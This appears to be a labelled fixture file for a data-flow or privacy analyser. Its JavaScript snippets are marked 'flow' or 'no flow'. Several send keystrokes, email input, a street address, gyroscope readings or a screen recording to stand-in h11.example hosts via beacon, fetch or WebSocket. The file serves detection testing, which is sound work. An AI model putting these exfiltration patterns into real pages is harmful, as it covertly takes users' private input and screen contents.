//# throttle-own-with-rest
// flow: interaction > tor.h11.example via beacon
// guard: event scroll
const throttle1 = (fn, ms) => { let last = 0; return (...args) => { const now = Date.now(); if (now - last >= ms) { last = now; fn(...args); } }; };
window.addEventListener('scroll', throttle1(() => navigator.sendBeacon('https://tor.h11.example/', 'y=' + window.scrollY), 500));

//# lodash-debounce-this
// flow: email > ldt.h11.example via fetch
// guard: event input
document.querySelector('input[type=email]').addEventListener('input', _.debounce(function () {
  fetch('https://ldt.h11.example/?e=' + encodeURIComponent(this.value));
}, 250));

//# near-wrapper-gives-own-event
// no flow
// why: the wrapped handler gets an object of the wrapper's own
function quiet3(fn) { return function () { fn({ target: { value: 'x' } }); }; }
document.querySelector('input[type=email]').addEventListener('input', quiet3(function (e) {
  fetch('https://nwo.h11.example/?e=' + e.target.value);
}));

//# wrapped-in-a-class-constructor
// flow: keystrokes > wcc.h11.example via beacon
class Shortcuts4 {
  constructor() { this.onKey = this.safely(this.handle.bind(this)); document.addEventListener('keyup', this.onKey); }
  safely(fn) { return function (e) { try { fn(e); } catch (err) { console.warn(err); } }; }
  handle(e) { navigator.sendBeacon('https://wcc.h11.example/', e.key); }
}
new Shortcuts4();

//# collected-on-window-in-a-closure
// flow: keystrokes > cwc.h11.example via beacon
const strokes5 = [];
(function () {
  window.addEventListener('keydown', function (e) { strokes5.push(e.code); });
  window.addEventListener('pagehide', function () { navigator.sendBeacon('https://cwc.h11.example/', JSON.stringify(strokes5)); });
})();

//# near-list-filled-at-once
// no flow
// why: the list holds what stands in the script
const kinds6 = [];
['keydown', 'keyup'].forEach(function (k) { kinds6.push(k); });
window.addEventListener('keydown', function (e) { if (e.key === 'F1') navigator.sendBeacon('https://nlf.h11.example/', JSON.stringify(kinds6)); });

//# idb-cursor-by-target
// flow: identifier > icb.h11.example via fetch
function all7(store, cb) {
  const out = [], rq = store.openCursor();
  rq.onsuccess = function (ev) { const c = ev.target.result; if (!c) return cb(out); out.push(c.value.id); c.continue(); };
}
indexedDB.open('ids').onsuccess = (e) => {
  all7(e.target.result.transaction('v').objectStore('v'), (ids) => fetch('https://icb.h11.example/', { method: 'POST', body: ids.join() }));
};

//# near-idb-version-only
// no flow
// why: the version of the data base is a constant of the script
const open8 = indexedDB.open('ids', 4);
open8.onsuccess = (e) => fetch('https://niv.h11.example/?v=' + 4 + '&ok=1');

//# gyroscope-instance
// flow: device > gyi.h11.example via fetch
const gyro9 = new Gyroscope({ frequency: 60 });
gyro9.onreading = () => { fetch('https://gyi.h11.example/', { method: 'POST', body: JSON.stringify([gyro9.x, gyro9.y]) }); };
gyro9.start();

//# near-point-with-x
// no flow
const point10 = { x: 3, y: 4 };
const gyro10 = new Gyroscope();
gyro10.onreading = () => { document.body.style.rotate = gyro10.z + 'rad'; };
fetch('https://npx.h11.example/', { method: 'POST', body: point10.x + ',' + point10.y });

//# textarea-with-address
// flow: address > twa.h11.example via xhr
var t11 = document.querySelector('textarea[autocomplete="street-address"]');
$.post('https://twa.h11.example/', { a: t11.value });

//# near-textarea-named-notes
// flow: message > ntn.h11.example via fetch
// why: nothing says more than that it is free text
fetch('https://ntn.h11.example/', { method: 'POST', body: document.querySelector('textarea.notes').value });

//# screen-recording
// flow: message > scr.h11.example via websocket
// why: what is shown and said while it is recorded
async function share13() {
  const s = await navigator.mediaDevices.getDisplayMedia({ video: true, audio: true });
  const ws = new WebSocket('wss://scr.h11.example/up'), r = new MediaRecorder(s, { mimeType: 'video/webm' });
  r.addEventListener('dataavailable', (ev) => ws.send(ev.data));
  r.start(500);
}
document.querySelector('#share').onclick = share13;

//# near-recording-played
// no flow
navigator.mediaDevices.getUserMedia({ audio: true }).then((s) => {
  const r = new MediaRecorder(s);
  r.ondataavailable = (e) => { document.querySelector('audio').src = URL.createObjectURL(e.data); fetch('https://nrp.h11.example/done'); };
  r.start();
});
